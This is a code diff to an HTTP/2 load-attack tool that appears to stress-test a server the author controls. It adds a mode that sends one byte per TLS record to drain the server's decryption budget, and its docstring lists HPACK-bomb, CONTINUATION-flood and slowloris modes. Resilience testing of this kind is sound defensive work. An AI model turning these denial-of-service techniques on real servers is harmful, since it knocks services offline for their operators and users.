@@ -17,6 +17,9 @@ a few connections, reconnecting whenever the coordinator cuts one:
   empty DATA frames on an open call
 - ``continuation``: one call's HEADERS without END_HEADERS, then CONTINUATION frames of
   HPACK literals, never ending the header block
+- ``records``: with ``--certs``, a frame of an unknown type whose payload goes one byte per
+  TLS record, over and over: each record costs the server its work (a decryption, a pass of
+  the relay) for one byte of the budget of decrypted bytes
 - ``hpack``: calls whose header block adds one 4 KiB header to HPACK's dynamic table and then
   refers to it thousands of times (an HPACK bomb: 16 KiB on the wire, 64 MiB decoded)
 - ``slowloris``: ``--hold`` connections that each send their first bytes (HTTP/2's preface,
@@ -87,7 +90,7 @@ class Attack:
         self.lock = threading.Lock()
         self.counts = {"connections": 0, "cut": 0, "failed": 0, "headers": 0, "resets": 0,
                        "control": 0, "ended_by_server": 0, "stalled": 0, "frames": 0,
-                       "bytes": 0, "handshakes": 0}  # fmt: skip
+                       "bytes": 0, "handshakes": 0, "records": 0}  # fmt: skip
         self.context: ssl.SSLContext | None = None
         if args.certs:
             certs = Path(args.certs)
@@ -240,12 +243,22 @@ class Attack:
             "empty": frames(DATA, 0, 1, b""),
             "continuation": frames(CONTINUATION, 0, 1, _literal(b"x-pad", b"p" * 100) * 100),
             "hpack": b"-",  # each batch is a new call's header block (below)
+            "records": b"-",  # one frame, its payload a byte per record (below)
         }[mode]
         batch = one * max(1, (1 << 16) // len(one))
         stream = 1
         try:
             sock.sendall(first)
             while time.monotonic() < self.deadline and reader.is_alive():
+                if mode == "records":
+                    assert isinstance(sock, TlsPipe), "records needs --certs"
+                    payload = b"r" * 4096
+                    sock.sendall(frame(UNKNOWN, 0, 0, payload))
+                    sent = sock.send_records(payload, 1)
+                    self.add("frames")
+                    self.add("records", len(payload))
+                    self.add("bytes", sent)
+                    continue
                 if mode == "hpack":
                     batch = frames(HEADERS, END_HEADERS, stream, _hpack_bomb(self.block))
                     stream += 2
@@ -353,7 +366,7 @@ class Attack:
         self.deadline = 0.0
 
 
-_BLIND = ("window", "unknown", "empty", "continuation", "hpack")
+_BLIND = ("window", "unknown", "empty", "continuation", "hpack", "records")
 
 
 def _hpack_bomb(block: bytes) -> bytes:
@@ -375,6 +388,16 @@ class TlsPipe(TlsEnd):
     def __init__(self, raw: socket.socket, context: ssl.SSLContext) -> None:
         super().__init__(raw, context, server_side=False, server_hostname="localhost")
         self.handshake(b"", time.monotonic() + 5)
+
+    def send_records(self, data: bytes, size: int) -> int:
+        """``data`` in TLS records of ``size`` bytes each; the bytes that went on the wire."""
+        with self._sending:
+            with self._lock:
+                for at in range(0, len(data), size):
+                    self._tls.write(data[at : at + size])
+                records = self._out.read()
+            self.raw.sendall(records)
+        return len(records)
 
     def recv(self, size: int) -> bytes:
         buffer = bytearray(size)
